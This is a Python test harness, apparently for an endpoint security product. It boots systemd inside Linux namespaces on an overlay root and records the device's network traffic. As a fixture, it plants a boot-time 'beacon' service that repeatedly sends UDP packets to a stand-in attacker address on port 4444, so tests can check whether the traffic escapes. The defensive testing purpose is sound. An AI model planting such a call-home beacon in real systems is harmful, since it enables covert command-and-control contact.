"""A whole device to start, stop and start again: a real systemd, first process of its namespaces.

Its root is an overlay over this machine's, kept over its restarts; its network is a fresh namespace
at each start, whose one interface is down until systemd-networkd has its turn. Nothing of this
machine's is changed by it.
"""

import contextlib
import os
import shlex
import shutil
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from ipaddress import ip_address
from pathlib import Path

from endpoint_shim.linux import cgroup
from endpoint_shim.linux.mounts import read_mounts
from tests.endpoint_shim.linux.nets import Host, hosts
from tests.endpoint_shim.linux.nets import run as ran

ROOT = Path(__file__).parents[3]
SYSTEMD = "/lib/systemd/systemd"
STATE = Path("var/lib/fireline-endpoint")
WAIT_S = 60.0
DEVICE, BROKER, ATTACKER = "192.0.2.2", "192.0.2.1", "192.0.2.66"
SPACES = ("--mount", "--pid", "--uts", "--ipc", "--cgroup", "--fork", "--kill-child")
NODES = (("null", 1, 3), ("zero", 1, 5), ("random", 1, 8), ("urandom", 1, 9), ("tty", 5, 0))
MASKED = ("systemd-sysctl", "systemd-binfmt", "systemd-logind", "systemd-firstboot", "dbus")
"""What would set the whole machine's, or is of no use here."""
UNITS = Path("etc/systemd/system")
LIBRARY = Path("/lib/systemd/system")
NETWORK = f"[Match]\nName=d0\n[Network]\nAddress={DEVICE}/24\nLinkLocalAddressing=no\n"
BEACON = """[Unit]
DefaultDependencies=no
[Service]
ExecStart=/usr/bin/python3 /etc/beacon.py
"""
CALLS = f"""import contextlib, socket, time
while True:
    with contextlib.suppress(OSError), socket.socket(type=socket.SOCK_DGRAM) as one:
        one.sendto(b"here", ("{ATTACKER}", 4444))
    time.sleep(0.002)
"""
BEACON_HEARD = f"17 to {ATTACKER}"
"""Somebody's program that calls home from the system's first moment on, and waits for nobody."""


class Started:
    """One such device; `world` is what it is connected to."""

    def __init__(self, folder: Path, world: Host) -> None:
        self.folder, self.world = folder, world
        self.upper = folder / "upper"
        self.wire = Wire()
        self._host: Host | None = None
        self._process: subprocess.Popen[bytes] | None = None
        self._group = _groups() / folder.name
        _lay_out(self.upper)

    @property
    def state(self) -> Path:
        """Its state folder, from outside: to be read, and before the first start written."""
        return self.upper / STATE

    @property
    def pid(self) -> int:
        """Its systemd, as this machine counts."""
        assert self._process is not None
        outer = self._process.pid
        return int(Path(f"/proc/{outer}/task/{outer}/children").read_text())

    def start(self) -> None:
        """To its first process; `until_up` waits for the rest."""
        self._host = Host("dev")
        self._host.ip(
            "link", "add", "d0", "type", "veth", "peer", "name", "w0", "netns", self.world.name
        )
        self.world.ip("link", "set", "w0", "up")
        for address in (BROKER, ATTACKER):
            self.world.ip("addr", "add", f"{address}/24", "dev", "w0")
        self.wire.listen(self.world)
        self._group.mkdir(exist_ok=True)
        enter = [sys.executable, "-m", __name__, str(self.folder)]
        join = f"echo $$ > {shlex.quote(str(self._group))}/cgroup.procs; exec "
        words = ["ip", "netns", "exec", self._host.name, "unshare", *SPACES, *enter]
        with (self.folder / "console.log").open("ab") as log:
            self._process = subprocess.Popen(
                ["/bin/sh", "-c", join + shlex.join(words)],
                stdin=subprocess.DEVNULL, stdout=log, stderr=log, cwd=ROOT,
            )  # fmt: skip

    def until_up(self) -> None:
        """Until nothing waits to be started any more."""
        end = time.monotonic() + WAIT_S
        asked = ("systemctl", "is-system-running", "--wait")
        while not self._is_systemd() or self.tries(*asked)[0] not in ("running", "degraded"):
            assert time.monotonic() < end, (self.folder / "console.log").read_text()
            time.sleep(0.02)

    def _is_systemd(self) -> bool:
        """Before, its root is this machine's."""
        try:
            return Path(f"/proc/{self.pid}/comm").read_text() == "systemd\n"
        except (OSError, ValueError):
            return False

    def run(self, *words: str) -> str:
        """What a program says in there."""
        said, status = self.tries(*words)
        assert status == 0, (words, said)
        return said

    def tries(self, *words: str) -> tuple[str, int]:
        """What it says, and its status."""
        assert self._is_systemd()
        enter = ["nsenter", "-t", str(self.pid), "-m", "-p", "-n", "-u", "-i", "-C", "-r", "-w"]
        done = subprocess.run(
            [*enter, *words],
            stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=WAIT_S,
        )  # fmt: skip
        return (done.stdout + done.stderr).strip(), done.returncode

    def endpoint(self, *words: str) -> tuple[str, int]:
        """`fireline-endpoint`, by root at the device."""
        return self.tries(sys.executable, "-Im", "endpoint_shim", *words)

    def at(self, unit: str, what: str) -> int:
        """When that happened to a unit: microseconds on the boot's own clock, 0 for never."""
        return int(self.run("systemctl", "show", unit, "--value", f"--property={what}Monotonic"))

    def enable(self, unit: str, by: str = "multi-user.target", text: str = "") -> None:
        """From the next start on."""
        units = self.upper / UNITS
        if text:
            (units / unit).write_text(text)
        wants = units / f"{by}.wants"
        wants.mkdir(exist_ok=True)
        (wants / unit).symlink_to("/" / UNITS / unit if text else LIBRARY / unit)

    def shut_down(self) -> str:
        """In order, as `reboot` does; the packet filter's rules as they were at its end."""
        assert self._process is not None and self._host is not None
        words = ("start", "reboot.target", "--job-mode=replace-irreversibly", "--no-block")
        self.run("systemctl", *words)
        self._process.wait(WAIT_S)
        rules = self._host.run("nft", "list", "ruleset")
        self._ended()
        return rules

    def cut_power(self) -> None:
        """Everything is gone at once."""
        if self._process is None:
            return
        with contextlib.suppress(OSError, ValueError):
            os.kill(self.pid, signal.SIGKILL)
        self._process.wait(WAIT_S)
        self._ended()

    def remove(self) -> None:
        self.cut_power()
        shutil.rmtree(self.folder)

    def _ended(self) -> None:
        assert self._host is not None
        self._host.remove()  # and with it the cable
        self.wire.close()
        self._process = self._host = None
        end = time.monotonic() + WAIT_S
        while not cgroup._remove(self._group):
            assert time.monotonic() < end
            time.sleep(0.02)


class Wire:
    """What came out of the device since it was last started, frame by frame."""

    def __init__(self) -> None:
        self.frames: list[bytes] = []
        self._socket: socket.socket | None = None
        self._reader: threading.Thread | None = None

    def listen(self, world: Host) -> None:
        self.frames.clear()
        with world.inside():
            one = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
            one.bind(("w0", 0))
        self._socket = one
        self._reader = threading.Thread(target=self._read, args=(one,), daemon=True)
        self._reader.start()

    def close(self) -> None:
        """Its interface is gone: the reader has ended."""
        assert self._socket is not None and self._reader is not None
        self._reader.join(WAIT_S)
        self._socket.close()

    def _read(self, one: socket.socket) -> None:
        with contextlib.suppress(OSError):  # ENETDOWN
            while True:
                frame, where = one.recvfrom(65536)
                if where[2] != socket.PACKET_OUTGOING:
                    self.frames.append(frame)

    def strangers(self) -> set[str]:
        """Where it sent anything but to the broker: protocol and address. Neighbours are asked for
        by ARP, which is no stranger."""
        found = set()
        for frame in list(self.frames):
            kind = frame[12:14]
            if kind == b"\x08\x00":
                far, protocol = ip_address(frame[30:34]), frame[23]
            elif kind == b"\x86\xdd":
                far, protocol = ip_address(frame[38:54]), frame[20]
            else:
                continue
            if str(far) != BROKER and not far.is_multicast:
                found.add(f"{protocol} to {far}")
        return found


@contextlib.contextmanager
def started(name: str) -> Iterator[Started]:
    """One, not started yet; gone afterwards."""
    # On memory: a layer of an overlay cannot lie in the one below it.
    folder = Path("/dev/shm") / f"fireline-{os.getpid()}-{name}"
    with hosts("world") as (world,):
        folder.mkdir(mode=0o755)
        device = Started(folder, world)
        try:
            yield device
        finally:
            device.remove()


def _groups() -> Path:
    mount = cgroup.mount_point(Path("/proc/self/mountinfo").read_text())
    assert mount is not None
    return mount


def _lay_out(upper: Path) -> None:
    """The little that is the device's own before its first start."""
    units = upper / UNITS
    units.mkdir(parents=True)
    (upper / "var/lib").mkdir(parents=True)
    os.setxattr(units, "trusted.overlay.opaque", b"y")  # none of what this machine starts
    (units / "default.target").symlink_to(LIBRARY / "multi-user.target")
    for name in (*(f"{one}.service" for one in MASKED), "dbus.socket", "getty.target"):
        (units / name).symlink_to("/dev/null")
    for place, text in (
        ("etc/systemd/network/d0.network", NETWORK),
        ("etc/beacon.py", CALLS),
        ("etc/fstab", "overlay / overlay rw 0 0\n"),
    ):
        (upper / place).parent.mkdir(exist_ok=True)
        (upper / place).write_text(text)
    # /tmp is this machine's own below, and what the tests run may lie there.
    (upper / "etc/tmpfiles.d").mkdir()
    (upper / "etc/tmpfiles.d/tmp.conf").symlink_to("/dev/null")


def _enter(folder: Path) -> None:
    """Makes the overlay the root of this process, lets go of the machine's own, and is systemd."""
    root, machine = folder / "root", os.stat("/").st_dev
    for name in ("work", "root"):
        (folder / name).mkdir(exist_ok=True)
    layers = f"lowerdir=/,upperdir={folder}/upper,workdir={folder}/work"
    _mount("overlay", root, f"ro,{layers}")
    os.chdir(root)
    for kind, name, options in (
        ("tmpfs", "run", "mode=755"),
        ("tmpfs", "dev", "mode=755"),
        ("proc", "proc", ""),
        ("sysfs", "sys", "ro"),
        ("cgroup2", "sys/fs/cgroup", ""),
    ):
        _mount(kind, Path(name), options)
    os.umask(0)
    for name, major, minor in NODES:
        os.mknod(f"dev/{name}", 0o666 | stat.S_IFCHR, os.makedev(major, minor))
    os.umask(0o022)
    for name in ("dev/pts", "dev/shm"):
        os.mkdir(name)
    _mount("devpts", Path("dev/pts"), "newinstance,ptmxmode=0666,mode=620")
    for link, target in (("ptmx", "pts/ptmx"), ("fd", "/proc/self/fd"), ("stderr", "fd/2")):
        os.symlink(target, f"dev/{link}")
    ran("pivot_root", ".", "mnt")
    os.chdir("/")
    ran("umount", "--lazy", "/mnt")
    devices = {mount.device for mount in read_mounts()}
    assert (os.major(machine), os.minor(machine)) not in devices, "the machine's root would be held"
    environment = {"container": "fireline-test", "PATH": os.environ["PATH"], "TERM": "dumb"}
    words = ["systemd", "--system", "--log-target=journal", "--show-status=0"]
    os.execve(SYSTEMD, words, environment)


def _mount(kind: str, target: Path, options: str = "") -> None:
    ran("mount", "-t", kind, *(["-o", options] if options else []), kind, str(target))


if __name__ == "__main__":
    _enter(Path(sys.argv[1]))
